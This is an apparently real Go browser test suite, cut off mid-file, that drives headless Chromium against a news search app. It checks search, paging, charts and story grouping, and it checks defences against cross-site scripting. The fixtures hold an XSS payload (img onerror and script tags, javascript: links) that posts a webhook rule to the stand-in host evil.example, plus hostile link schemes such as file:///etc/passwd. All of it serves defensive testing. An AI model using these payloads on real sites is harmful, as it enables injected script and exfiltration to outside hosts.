package app

import (
	"context"
	"fmt"
	"html"
	"io"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// The search page driven by a real headless Chromium (Debian's chromium
// package; .ci/run installs it) against parley running in-process over a
// local site of fixture articles, some of which carry markup and script.

// payload is what hostile feeds and links try to run: it marks the page
// and creates an alert rule with an outside webhook, as in issue 14 row 3.
const payload = `window.__pwned=1;fetch('/api/rules',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({name:'pwned',query:'x',webhook:'https://evil.example/h'})})`

// evilMarkup is markup that runs payload wherever it is parsed as HTML.
var evilMarkup = `<img src=x onerror="` + payload + `"><script>` + payload + `</script>`

// browserSite is the fixture: feed "wire" (24 plain articles, one of them
// a wire copy), feed "copy" (the other copy of that story) and feed
// "evil" (a title, a site name and an article carrying evilMarkup).
type browserSite struct {
	srv   *httptest.Server
	plain int // articles in the wire feed
}

// words makes distinct text for article i, so that no two articles but
// the wire copies fall into one story.
func words(i, n int) string {
	vocab := strings.Fields(`minister envoy talks ceasefire delegation border trade sanctions
		treaty embassy council resolution vote aid corridor grain port harbour energy pipeline gas
		oil election observers mission monitors refugees convoy negotiators capital province river
		valley coast island strait airspace drones missiles artillery reserves budget loan bank
		currency tariff quota export import shipping insurance court tribunal prosecutor witness
		archive statement communique protocol annex agenda venue schedule deadline proposal draft
		amendment clause signatory guarantor mediator observer chair deputy spokesman adviser`)
	r := rand.New(rand.NewPCG(uint64(i)+1, 42))
	out := make([]string, n)
	for k := range out {
		out[k] = vocab[r.IntN(len(vocab))]
	}
	return strings.Join(out, " ")
}

// wireStory is the text both copies of one story carry.
var wireStory = "The foreign ministers of both countries met in Geneva on Tuesday for talks on a prisoner exchange, officials said. " +
	`"We are ready to continue the dialogue," Sergei Lavrov said after the meeting, adding that experts would meet again next week. ` +
	"The talks lasted four hours and covered the exchange of prisoners, humanitarian corridors and the return of children. " +
	"Diplomats from Switzerland and Turkey attended as mediators and said a second round could take place in Istanbul."

func startBrowserSite(t *testing.T) *browserSite {
	t.Helper()
	s := &browserSite{plain: 24}
	mux := http.NewServeMux()
	page := func(site, title, published, body string) string {
		var b strings.Builder
		fmt.Fprintf(&b, "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>%s</title>", html.EscapeString(title))
		fmt.Fprintf(&b, "<meta property=\"og:site_name\" content=\"%s\">", html.EscapeString(site))
		fmt.Fprintf(&b, "<meta property=\"article:published_time\" content=\"%s\"></head><body><article><h1>%s</h1>", published, html.EscapeString(title))
		for _, p := range strings.Split(body, "\n\n") {
			fmt.Fprintf(&b, "<p>%s</p>", html.EscapeString(p))
		}
		b.WriteString("</article></body></html>")
		return b.String()
	}
	type item struct{ title, link, date string }
	rss := func(title string, items []item) string {
		var b strings.Builder
		fmt.Fprintf(&b, `<?xml version="1.0"?><rss version="2.0"><channel><title>%s</title><link>%s/</link>`, html.EscapeString(title), s.srv.URL)
		for _, it := range items {
			fmt.Fprintf(&b, "<item><title>%s</title><link>%s</link><guid>%s</guid><pubDate>%s</pubDate></item>", html.EscapeString(it.title), html.EscapeString(it.link), html.EscapeString(it.link), it.date)
		}
		b.WriteString("</channel></rss>")
		return b.String()
	}
	pages := map[string]string{}
	feeds := map[string]string{}
	s.srv = httptest.NewServer(mux)
	t.Cleanup(s.srv.Close)
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if f, ok := feeds[r.URL.Path]; ok {
			w.Header().Set("Content-Type", "application/rss+xml")
			_, _ = w.Write([]byte(f))
			return
		}
		if p, ok := pages[r.URL.Path]; ok {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = w.Write([]byte(p))
			return
		}
		http.NotFound(w, r)
	})

	var wire []item
	for i := range s.plain {
		day := time.Date(2026, 11, 1+i, 9, 0, 0, 0, time.UTC)
		title := fmt.Sprintf("Wire report %02d: %s", i, words(i, 5))
		body := words(i*7+1, 70) + ".\n\n" + words(i*7+2, 70) + ".\n\n" + words(i*7+3, 70) + "."
		if i == 3 {
			title = "Wire report 03: Lavrov and Fidan hold Geneva talks"
			body = wireStory
		}
		path := fmt.Sprintf("/wire/%02d.html", i)
		pages[path] = page("Wire Service", title, day.Format(time.RFC3339), body)
		wire = append(wire, item{title, s.srv.URL + path, day.Format(time.RFC1123Z)})
	}
	feeds["/wire.xml"] = rss("Wire Service", wire)

	day := time.Date(2026, 11, 5, 12, 0, 0, 0, time.UTC)
	pages["/copy/geneva.html"] = page("Daily Copy", "Geneva talks between Lavrov and Fidan", day.Format(time.RFC3339), wireStory)
	feeds["/copy.xml"] = rss("Daily Copy", []item{{"Geneva talks between Lavrov and Fidan", s.srv.URL + "/copy/geneva.html", day.Format(time.RFC1123Z)}})

	late := time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC)
	var lateItems []item
	for i := range 2 {
		path := fmt.Sprintf("/late/%d.html", i)
		title := fmt.Sprintf("Late talks report %d", i)
		pages[path] = page("Late Desk", title, late.Format(time.RFC3339), "The talks resumed late. "+words(700+i, 80)+".\n\n"+words(710+i, 80)+".")
		lateItems = append(lateItems, item{title, s.srv.URL + path, late.Format(time.RFC1123Z)})
	}
	feeds["/late.xml"] = rss("Late Desk", lateItems)

	// Eleven outlets with one article each: more sources than a facet shows.
	var outletItems []item
	for i := range 11 {
		path := fmt.Sprintf("/outlets/%d.html", i)
		title := fmt.Sprintf("Outlet %02d bulletin", i)
		pages[path] = page(fmt.Sprintf("Outlet %02d", i), title, late.Format(time.RFC3339), words(800+i, 80)+".\n\n"+words(820+i, 80)+".")
		outletItems = append(outletItems, item{title, s.srv.URL + path, late.Format(time.RFC1123Z)})
	}
	feeds["/outlets.xml"] = rss("Outlets", outletItems)

	// The analysts' desk: 16 articles over the last four weeks (one every
	// 43 hours, the newest an hour old), about the summit (even) or
	// sanctions (odd), each quoting one of three speakers.
	var deskItems []item
	for i := range deskArticles {
		path := fmt.Sprintf("/desk/%02d.html", i)
		when := time.Now().UTC().Add(-time.Duration(1+43*i) * time.Hour).Truncate(time.Second)
		topic := deskTopic(i)
		title := fmt.Sprintf("Desk %02d: %s day in Vienna", i, topic)
		body := fmt.Sprintf("Delegations met in Vienna on the %s, officials said.\n\n\"%s,\" %s said after the meeting.\n\n%s.",
			topic, deskQuote(i), deskSpeakers[i%3], words(1000+i, 60))
		pages[path] = page("Summit Desk", title, when.Format(time.RFC3339), body)
		deskItems = append(deskItems, item{title, s.srv.URL + path, when.Format(time.RFC1123Z)})
	}
	feeds["/desk.xml"] = rss("Summit Desk", deskItems)

	evil := evilMarkup + "Evil News"
	day = time.Date(2026, 11, 6, 12, 0, 0, 0, time.UTC)
	pages["/evil/a.html"] = page(evil, "Summit "+evilMarkup+" report", day.Format(time.RFC3339),
		"The summit opened with a statement. "+evilMarkup+" Delegates from twelve countries arrived.\n\n"+words(900, 80)+".\n\n"+words(901, 80)+".")
	feeds["/evil.xml"] = rss(evil, []item{
		{"Summit " + evilMarkup + " report", s.srv.URL + "/evil/a.html", day.Format(time.RFC1123Z)},
		{"A javascript: link", "javascript:" + payload, day.Format(time.RFC1123Z)},
	})
	return s
}

// The desk feed's articles (see startBrowserSite).
const deskArticles = 16

var deskSpeakers = []string{"Marco Rubio", "Sergey Lavrov", "Andrii Sybiha"}

func deskTopic(i int) string {
	if i%2 == 0 {
		return "summit"
	}
	return "sanctions"
}

func deskQuote(i int) string {
	return fmt.Sprintf("We will come back to the %s table with a plan for round %d", deskTopic(i), i)
}

// feeds are the site's feeds, and one that is gone (404: failing).
func (s *browserSite) feeds() []string {
	return []string{s.srv.URL + "/wire.xml", s.srv.URL + "/copy.xml", s.srv.URL + "/evil.xml", s.srv.URL + "/gone.xml"}
}

// chromiumPath finds a Chromium to drive. Outside CI a missing browser
// skips the test; in CI (CI=true) it fails it: .ci/run installs chromium.
func chromiumPath(t *testing.T) string {
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "headless-shell"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	if os.Getenv("CI") == "true" {
		t.Fatal("no chromium binary on PATH, and CI=true: .ci/run must install Debian's chromium package (apt-get install chromium)")
	}
	t.Skip("no chromium binary on PATH (apt-get install chromium); the browser test of the search page is skipped")
	return ""
}

// browser is one headless Chromium tab on parley's page.
type browser struct {
	t     *testing.T
	ctx   context.Context
	base  string
	shots string

	mu     sync.Mutex
	errors []string // uncaught exceptions and console errors
}

func newBrowser(t *testing.T, base string) *browser {
	t.Helper()
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(chromiumPath(t)), chromedp.NoSandbox, chromedp.DisableGPU, chromedp.WindowSize(1100, 720),
		chromedp.Flag("disable-dev-shm-usage", true)) // containers often have a small /dev/shm
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancel := chromedp.NewContext(actx)
	t.Cleanup(func() { cancel(); cancelAlloc() })
	// The first Run starts the browser, which lives as long as its context.
	if err := chromedp.Run(ctx); err != nil {
		t.Fatalf("start chromium: %v", err)
	}
	b := &browser{t: t, ctx: ctx, base: base, shots: os.Getenv("PARLEY_SCREENSHOTS")}
	if b.shots == "" {
		b.shots = t.TempDir()
	}
	chromedp.ListenTarget(ctx, func(ev any) {
		b.mu.Lock()
		defer b.mu.Unlock()
		switch ev := ev.(type) {
		case *runtime.EventExceptionThrown:
			b.errors = append(b.errors, "exception: "+ev.ExceptionDetails.Error())
		case *runtime.EventConsoleAPICalled:
			if ev.Type == runtime.APITypeError {
				var args []string
				for _, a := range ev.Args {
					args = append(args, string(a.Value)+a.Description)
				}
				b.errors = append(b.errors, "console.error: "+strings.Join(args, " "))
			}
		}
	})
	// Every page records the CSP violations it sees: one means injected
	// markup reached the HTML parser and only the CSP stopped it. It also
	// records a failing-feeds banner filled in after the page was drawn,
	// which moves the page under the user's pointer.
	b.run(chromedp.ActionFunc(func(ctx context.Context) error {
		_, err := page.AddScriptToEvaluateOnNewDocument(`window.__violations = [];
			document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(e.violatedDirective + " " + e.blockedURI));
			window.__lateBanner = 0;
			new MutationObserver((ms) => { for (const m of ms) if (m.target.id === "failing" && m.addedNodes.length) window.__lateBanner++; })
				.observe(document, { childList: true, subtree: true });`).Do(ctx)
		return err
	}))
	return b
}

func (b *browser) run(actions ...chromedp.Action) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	if err := chromedp.Run(ctx, actions...); err != nil {
		b.t.Fatalf("browser: %v (page errors: %v)", err, b.errors)
	}
}

// eval evaluates a JavaScript expression and returns its value.
func (b *browser) eval(expr string, out any) {
	b.t.Helper()
	b.run(chromedp.Evaluate(expr, out))
}

// waitJS waits until the expression is true. Evaluation errors while a
// page is being replaced (no execution context yet) count as not yet.
func (b *browser) waitJS(what, expr string) {
	b.t.Helper()
	deadline := time.Now().Add(30 * time.Second) // generous: CI machines are shared
	var lastErr error
	for time.Now().Before(deadline) {
		var ok bool
		ctx, cancel := context.WithTimeout(b.ctx, 5*time.Second)
		lastErr = chromedp.Run(ctx, chromedp.Evaluate("!!("+expr+")", &ok))
		cancel()
		if lastErr == nil && ok {
			return
		}
		time.Sleep(50 * time.Millisecond) // polling interval
	}
	var status string
	_ = chromedp.Run(b.ctx, chromedp.Evaluate(`document.querySelector("#status") ? document.querySelector("#status").textContent : ""`, &status))
	b.t.Fatalf("waiting for %s: not within 30s (last error %v, status %q, page errors %v)", what, lastErr, status, b.errors)
}

// clickUntil clicks sel, as a user would, until expr holds: what arrives
// after the page renders (the pill that announces new articles) moves
// what is below it, so a click aimed before it appeared can land beside
// the button (as a hurried user's would), and the user clicks again.
func (b *browser) clickUntil(sel, what, expr string) {
	b.t.Helper()
	holds := func() bool {
		var ok bool
		ctx, cancel := context.WithTimeout(b.ctx, 5*time.Second)
		defer cancel()
		return chromedp.Run(ctx, chromedp.Evaluate("!!("+expr+")", &ok)) == nil && ok
	}
	for try := 0; try < 5 && !holds(); try++ {
		ctx, cancel := context.WithTimeout(b.ctx, 5*time.Second)
		_ = chromedp.Run(ctx, chromedp.Click(sel, chromedp.ByQuery)) // checked by expr below
		cancel()
		for wait := 0; wait < 20 && !holds(); wait++ {
			time.Sleep(50 * time.Millisecond) // polling interval
		}
	}
	b.waitJS(what, expr)
}

func (b *browser) hash() string {
	var h string
	b.eval(`location.hash`, &h)
	return h
}

func (b *browser) status() string {
	var s string
	b.eval(`document.querySelector("#status").textContent`, &s)
	return s
}

// open loads the page afresh with hash h, as a followed link would, and
// waits for a view.
func (b *browser) open(h string) {
	b.t.Helper()
	b.run(chromedp.Navigate("about:blank"), chromedp.Navigate(b.base+"/"+h))
	b.waitJS("the page to render", `document.readyState === "complete" && !/…$/.test(document.querySelector("#status").textContent) && document.querySelector("#view").childElementCount > 0`)
}

// dragChart drags the mouse across the chart from bucket i to bucket j
// (the same bucket: a click), as a user would.
func (b *browser) dragChart(i, j int) {
	b.t.Helper()
	var box struct {
		X, Y, W, H float64
		N          int
	}
	b.eval(`(() => { const c = document.querySelector("#chart"); c.scrollIntoView({block: "center"});
		const r = c.querySelector("svg").getBoundingClientRect();
		return {x: r.left, y: r.top, w: r.width, h: r.height, n: +c.dataset.buckets}; })()`, &box)
	if box.N == 0 || i < 0 || j < 0 || i >= box.N || j >= box.N {
		b.t.Fatalf("drag the chart from bucket %d to %d: it has %d", i, j, box.N)
	}
	at := func(k int) float64 { return box.X + (float64(k)+0.5)*box.W/float64(box.N) }
	y := box.Y + box.H/2
	b.run(chromedp.ActionFunc(func(ctx context.Context) error {
		steps := []*input.DispatchMouseEventParams{
			input.DispatchMouseEvent(input.MouseMoved, at(i), y),
			input.DispatchMouseEvent(input.MousePressed, at(i), y).WithButton(input.Left).WithButtons(1).WithClickCount(1),
			input.DispatchMouseEvent(input.MouseMoved, (at(i)+at(j))/2, y).WithButton(input.Left).WithButtons(1),
			input.DispatchMouseEvent(input.MouseMoved, at(j), y).WithButton(input.Left).WithButtons(1),
			input.DispatchMouseEvent(input.MouseReleased, at(j), y).WithButton(input.Left).WithButtons(0).WithClickCount(1),
		}
		for _, s := range steps {
			if err := s.Do(ctx); err != nil {
				return err
			}
		}
		return nil
	}))
}

// chartBucket is the index of the chart's bucket that holds at (the
// chart counts by the hour or day), or -1.
func (b *browser) chartBucket(at time.Time) int {
	b.t.Helper()
	var k int
	b.eval(fmt.Sprintf(`(() => { const c = document.querySelector("#chart"); const unit = {hour: 3600000, day: 86400000}[c.dataset.interval];
		return unit ? Math.floor((Date.parse(%q) - Date.parse(c.dataset.first)) / unit) : -1; })()`, at.UTC().Format(time.RFC3339)), &k)
	return k
}

func (b *browser) screenshot(name string) {
	b.t.Helper()
	var png []byte
	b.run(chromedp.CaptureScreenshot(&png))
	if err := os.WriteFile(filepath.Join(b.shots, name), png, 0o644); err != nil {
		b.t.Fatal(err)
	}
}

// clean fails the test when script from the fixtures or links ran, or
// when their markup reached the DOM as elements, or a page error occurred.
func (b *browser) clean(step string) {
	b.t.Helper()
	var got struct {
		Pwned      string   `json:"pwned"`
		Handlers   int      `json:"handlers"`
		BadLinks   []string `json:"badLinks"`
		Imgs       int      `json:"imgs"`
		Scripts    int      `json:"scripts"`
		Violations []string `json:"violations"`
		Stray      []string `json:"stray"` // JavaScript values printed as text
	}
	b.eval(`({
		pwned: typeof window.__pwned,
		handlers: document.querySelectorAll("[onerror],[onload],[onclick],[onmouseover],[onfocus]").length,
		stray: [...document.querySelectorAll("#view, #view *")].flatMap(e => [...e.childNodes]).filter(n => n.nodeType === 3 && /\b(null|undefined|NaN)\b|\[object /.test(n.textContent)).map(n => n.textContent),
		badLinks: [...document.querySelectorAll("a[href]")].map(a => a.getAttribute("href")).filter(h => !/^(https?:\/\/|#|\/)/i.test(h)),
		imgs: document.querySelectorAll("img").length,
		scripts: document.querySelectorAll("script:not([src])").length,
		violations: window.__violations || [],
	})`, &got)
	if got.Pwned != "undefined" || got.Handlers != 0 || len(got.BadLinks) != 0 || got.Imgs != 0 || got.Scripts != 0 || len(got.Violations) != 0 || len(got.Stray) != 0 {
		b.t.Errorf("%s: injected markup took effect: %+v", step, got)
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if len(b.errors) != 0 {
		b.t.Errorf("%s: page errors: %v", step, b.errors)
		b.errors = nil
	}
}

// searchRequests is how many searches the API answered (its metric).
func searchRequests(t *testing.T, base string) int {
	t.Helper()
	resp, err := http.Get(base + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, line := range strings.Split(string(data), "\n") {
		if strings.HasPrefix(line, `parley_http_requests_total{code="200",route="search"}`) {
			_, _ = fmt.Sscanf(strings.Fields(line)[1], "%d", &n)
		}
	}
	return n
}

func TestSearchPageInBrowser(t *testing.T) {
	chromiumPath(t)
	site := startBrowserSite(t)
	_, base := startApp(t, Config{AllowPrivate: true}, site.feeds())
	// The wire articles, the copy and the hostile article; the item whose
	// link is javascript: is kept from its feed fields today (issue 14 row
	// 9), and the page must then show it without a link.
	waitFor(t, "the fixture articles to be searchable", 90*time.Second, func() bool { return searchable(base) >= site.plain+2 })
	pollUntil(10*time.Second, func() bool { return searchable(base) == site.plain+3 })
	var all struct {
		Total int `json:"total"`
		Hits  []struct {
			ID, URL, Title, Source string
		} `json:"hits"`
	}
	if getJSON(t, base+"/api/search?q=*&size=100", &all) != 200 {
		t.Fatal("search")
	}
	for _, h := range all.Hits {
		if !strings.HasPrefix(h.URL, "http://") && !strings.HasPrefix(h.URL, "https://") {
			t.Logf("article %s has the non-web URL %q: the page must not link it", h.ID, h.URL)
		}
	}

	// CSP, checked on the document the browser loads.
	resp, err := http.Get(base + "/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") {
		t.Fatalf("Content-Security-Policy %q", csp)
	}

	b := newBrowser(t, base)
	b.run(chromedp.EmulateViewport(1100, 720))

	t.Run("search", func(t *testing.T) {
		b.t = t
		b.open("")
		if s := b.status(); !strings.HasPrefix(s, fmt.Sprintf("%d articles", all.Total)) {
			t.Errorf("status %q, want %d articles", s, all.Total)
		}
		b.open("#q=talks")
		b.screenshot("search.png")
		// Keyboard: "/" focuses the search box; the skip link, the first Tab
		// stop, leads to the first result.
		b.eval(`document.activeElement.blur(); document.body.focus(); true`, nil)
		b.run(chromedp.KeyEvent("/"))
		var focused string
		b.eval(`document.activeElement.id`, &focused)
		if focused != "q" {
			t.Errorf("after /: focus on %q, want the search box", focused)
		}
		b.open("#q=talks") // a fresh page: Tab starts at the top
		b.run(chromedp.KeyEvent(kb.Tab))
		b.eval(`document.activeElement.id`, &focused)
		if focused != "skip" {
			t.Errorf("first Tab stop: %q, want the skip link", focused)
		}
		b.run(chromedp.KeyEvent(kb.Enter))
		var first bool
		b.eval(`document.activeElement === document.querySelector("#view .hit h2 a")`, &first)
		if !first {
			t.Error("the skip link does not lead to the first result")
		}
		b.run(chromedp.SetValue("#q", "Lavrov", chromedp.ByQuery), chromedp.Click(`#f button`, chromedp.ByQuery))
		b.waitJS("the Lavrov results", `document.querySelector("#status").textContent.startsWith("2 articles for Lavrov")`)
		// A lower-case operator is a word, and the page says what was
		// probably meant (README, Query language).
		b.run(chromedp.SetValue("#q", "Lavrov or Rubio", chromedp.ByQuery), chromedp.Click(`#f button`, chromedp.ByQuery))
		b.waitJS("the hint", `(document.querySelector(".hint") || {}).textContent?.startsWith("did you mean OR? Operators are upper case: Lavrov OR Rubio")`)
		b.run(chromedp.SetValue("#q", "Lavrov", chromedp.ByQuery), chromedp.Click(`#f button`, chromedp.ByQuery))
		b.waitJS("the Lavrov results again, without a hint", `document.querySelector("#status").textContent.startsWith("2 articles for Lavrov") && !document.querySelector(".hint")`)
		// Search again on the same query runs it again (the page asks
		// /api/search for the hits and for the chart: any request counts).
		b.waitJS("the chart", `document.querySelector("#histogram .bar") !== null`)
		before := searchRequests(t, base)
		b.run(chromedp.Click(`#f button`, chromedp.ByQuery))
		waitFor(t, "a second search for the same query", 10*time.Second, func() bool { return searchRequests(t, base) > before })
		b.clean("search")
	})

	t.Run("paging", func(t *testing.T) {
		b.t = t
		b.open("#q=")
		var first, second []string
		b.eval(`[...document.querySelectorAll(".hit h2")].map(h => h.textContent)`, &first)
		if len(first) != 20 {
			t.Fatalf("first page: %d hits", len(first))
		}
		b.run(chromedp.Click("#older", chromedp.ByQuery))
		b.waitJS("page 2", `document.querySelector("#status").textContent.includes("21–")`)
		b.eval(`[...document.querySelectorAll(".hit h2")].map(h => h.textContent)`, &second)
		if len(second) != all.Total-20 || second[0] == first[0] {
			t.Errorf("second page: %d hits starting %q (first page started %q)", len(second), second[0], first[0])
		}
		b.run(chromedp.Click("#newer", chromedp.ByQuery))
		b.waitJS("page 1 again", `document.querySelector("#status").textContent.includes("1–20")`)
		b.clean("paging")
	})

	t.Run("sort, chart, quotes and export", func(t *testing.T) {
		b.t = t
		b.open("#q=")
		b.eval(`document.querySelector("#sort").value = "date"; document.querySelector("#sort").dispatchEvent(new Event("change")); true`, nil)
		b.waitJS("newest first", `location.hash.includes("sort=date") && !/…$/.test(document.querySelector("#status").textContent)`)
		var dates []string
		b.eval(`[...document.querySelectorAll(".hit .meta")].map(m => (m.textContent.match(/\d{4}-\d{2}-\d{2} \d{2}:\d{2}/) || [""])[0])`, &dates)
		for i := 1; i < len(dates); i++ {
			if dates[i] > dates[i-1] {
				t.Errorf("sort=date: %s after %s", dates[i], dates[i-1])
			}
		}
		// A click on the chart narrows the search to its day.
		b.waitJS("the chart", `document.querySelector("#chart") !== null`)
		k := b.chartBucket(time.Date(2026, 11, 5, 12, 0, 0, 0, time.UTC))
		b.dragChart(k, k)
		// The hash changes at once, the results when the new search is in:
		// wait for the chip the new results come with.
		b.waitJS("the day's articles", `[...document.querySelectorAll("#chips .chip")].some(c => c.textContent.includes("2026-11-05 TO 2026-11-05")) && !/…$/.test(document.querySelector("#status").textContent)`)
		if s := b.status(); !strings.HasPrefix(s, "2 articles") { // wire report 04 and the Geneva copy
			t.Errorf("a click on 5 November gave %q", s)
		}
		var chips []string
		b.eval(`[...document.querySelectorAll("#chips .chip")].map(c => c.textContent)`, &chips)
		if len(chips) != 1 || !strings.Contains(chips[0], "2026-11-05 TO 2026-11-05") {
			t.Errorf("chips after a click on the chart: %q, want the day's published_at chip", chips)
		}
		// Quotes: a speaker: search shows the quotation, its speaker links on.
		b.open("#q=speaker:Lavrov")
		var quotes []string
		b.eval(`[...document.querySelectorAll(".hit blockquote")].map(q => q.textContent)`, &quotes)
		if len(quotes) != 2 || !strings.Contains(quotes[0], "We are ready to continue the dialogue") {
			t.Errorf("speaker:Lavrov hits show the quotes %q", quotes)
		}
		// Export: the page's CSV link gives every match.
		var href string
		b.eval(`document.querySelector("#export-csv").getAttribute("href")`, &href)
		resp, err := http.Get(base + href)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if lines := strings.Count(strings.TrimSpace(string(body)), "\n"); resp.StatusCode != 200 || lines < 2 || !strings.Contains(string(body), "Lavrov") {
			t.Errorf("export %s: %s, %d records", href, resp.Status, lines)
		}
		b.clean("sort, chart, quotes, export")
	})

	t.Run("date picker", func(t *testing.T) {
		b.t = t
		b.open("#q=")
		b.eval(`(() => { const w = document.querySelector("#when"); w.value = "custom"; w.dispatchEvent(new Event("change"));
			const f = document.querySelector("#date-from"), u = document.querySelector("#date-to");
			f.value = "2026-11-07"; u.value = "2026-11-09"; u.dispatchEvent(new Event("change")); return true; })()`, nil)
		b.waitJS("the date range", `document.querySelector("#chips .chip") !== null && !/…$/.test(document.querySelector("#status").textContent)`)
		if s := b.status(); !strings.HasPrefix(s, "3 articles") { // wire reports 06, 07 and 08
			t.Errorf("7 to 9 November: %q, want 3 articles", s)
		}
		var from string
		b.eval(`document.querySelector("#date-from").value`, &from)
		if from != "2026-11-07" {
			t.Errorf("the picker does not show the range it filters by: from %q", from)
		}
		b.eval(`(() => { const w = document.querySelector("#when"); w.value = "now-7d"; w.dispatchEvent(new Event("change")); return true; })()`, nil)
		b.waitJS("the relative range", `new URLSearchParams(location.hash.slice(1)).getAll("f").includes("published_at:[now-7d TO now]") && !/…$/.test(document.querySelector("#status").textContent)`)
		var chips []string
		b.eval(`[...document.querySelectorAll("#chips .chip")].map(c => c.textContent)`, &chips)
		if len(chips) != 1 || !strings.Contains(chips[0], "now-7d") {
			t.Errorf("chips %q, want the one relative range", chips)
		}
		b.clean("date picker")
	})

	t.Run("crafted link", func(t *testing.T) {
		b.t = t
		// The link of issue 14 row 3, as a user would receive it, and one
		// that carries the whole payload (the query then fails to parse:
		// the error shows the text).
		for _, link := range []string{`#q=x><img src=x onerror=window.__pwned=1>&from=20`, `#q=x"><img src=x onerror="` + payload + `">&from=20`} {
			b.open(link)
			var pager bool
			b.eval(`document.querySelector("#newer") !== null`, &pager)
			if pager {
				b.run(chromedp.Click("#newer", chromedp.ByQuery))
				b.waitJS("page 1", `!location.hash.includes("from=") && !/…$/.test(document.querySelector("#status").textContent)`)
			}
			var text string
			b.eval(`document.querySelector("#q").value`, &text)
			if !strings.Contains(text, `<img src=x onerror=`) {
				t.Errorf("%s: the search box does not hold the query as text: %q", link, text)
			}
			b.clean("crafted link " + link)
		}
		// A chart comparison and the quotations view carry the markup too.
		b.open(`#q=summit&c=x"><img src=x onerror="` + payload + `">&norm=1`)
		b.waitJS("the compared series", `document.querySelectorAll("#legend li[data-series]").length === 2`)
		var legend string
		b.eval(`document.querySelector("#legend").textContent + document.querySelector(".compare-q").value`, &legend)
		if strings.Count(legend, `<img src=x onerror=`) != 2 {
			t.Errorf("the legend and the compare box do not show the query as text: %q", legend)
		}
		b.clean("crafted comparison")
		b.open(`#q=<img src=x onerror=window.__pwned=1>&view=quotes`)
		b.clean("crafted quotations view")
		b.clean("crafted link")
	})

	t.Run("hostile feed title and article", func(t *testing.T) {
		b.t = t
		b.open("#q=summit")
		b.clean("results with a hostile title")
		var clicked bool
		b.eval(`(() => { const a = [...document.querySelectorAll("#side a.facet")].find(a => a.textContent.includes("Evil News")); if (a) a.click(); return !!a; })()`, &clicked)
		if !clicked {
			t.Fatal("no source facet for the hostile feed")
		}
		b.waitJS("the facet's search", `document.querySelector("#chips .chip") !== null && !/…$/.test(document.querySelector("#status").textContent)`)
		var chip string
		b.eval(`document.querySelector("#chips .chip").textContent`, &chip)
		if !strings.Contains(chip, "<img src=x onerror=") || !strings.Contains(chip, "Evil News") {
			t.Errorf("the source chip does not show the feed title as text: %q", chip)
		}
		if s := b.status(); !strings.HasPrefix(s, "1 article ") {
			t.Errorf("the hostile source's facet found %q, want its 1 article", s)
		}
		b.clean("facet click")
		b.eval(`document.querySelector(".hit h2 a").click()`, nil)
		b.waitJS("the hostile article", `document.querySelector("article.full") !== null`)
		var text string
		b.eval(`document.querySelector("article.full").textContent`, &text)
		if !strings.Contains(text, "<img src=x onerror=") {
			t.Errorf("the article does not show its markup as text: %q", text)
		}
		b.clean("hostile article")
		// Ingestion may drop non-web links (issue 14 row 9); the page links
		// only http(s) whatever the API returns.
		var kinds []string
		b.eval(`["javascript:window.__pwned=1", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "vbscript:x", "https://example.org/a", "http://example.org/b"].map(u => originalLink(u).tagName + " " + (originalLink(u).getAttribute("href") || ""))`, &kinds)
		want := []string{"SPAN ", "SPAN ", "SPAN ", "SPAN ", "SPAN ", "SPAN ", "A https://example.org/a", "A http://example.org/b"}
		if strings.Join(kinds, "|") != strings.Join(want, "|") {
			t.Errorf("article links made: %q, want %q", kinds, want)
		}
		// The CSP itself is enforced: inline handlers do not run even when
		// markup is inserted as HTML.
		b.eval(`document.body.insertAdjacentHTML("beforeend", '<img id="cspprobe" src="x" onerror="window.__cspfailed=1">'); true`, nil)
		b.waitJS("the CSP to refuse the inline handler", `window.__violations.length > 0`)
		var failed string
		b.eval(`typeof window.__cspfailed`, &failed)
		if failed != "undefined" {
			t.Errorf("an inline handler ran: the CSP is not enforced")
		}
		b.eval(`document.querySelector("#cspprobe").remove(); window.__violations = []; true`, nil)
		var rules struct {
			Rules []any `json:"rules"`
		}
		getJSON(t, base+"/api/rules", &rules)
		if len(rules.Rules) != 0 {
			t.Errorf("rules after the injection attempts: %v", rules.Rules)
		}
	})

	t.Run("stories", func(t *testing.T) {
		b.t = t
		b.open("#q=&collapse=story")
		if s := b.status(); !strings.HasPrefix(s, fmt.Sprintf("%d stories", all.Total-1)) {
			t.Errorf("collapsed status %q, want %d stories", s, all.Total-1)
		}
		// The story card of the Geneva talks says it has a copy and lists it.
		b.open("#q=Geneva OR Wire&collapse=story")
		b.waitJS("the copies count", `document.querySelector(".copies-toggle") !== null`)
		var toggles []string
		b.eval(`[...document.querySelectorAll(".copies-toggle")].map(b => b.textContent)`, &toggles)
		if len(toggles) != 1 || !strings.HasPrefix(toggles[0], "+1 copy: ") {
			t.Errorf("copies offered on the story cards: %q, want one +1 copy", toggles)
		}
		b.run(chromedp.Click(".copies-toggle", chromedp.ByQuery))
		var listed []string
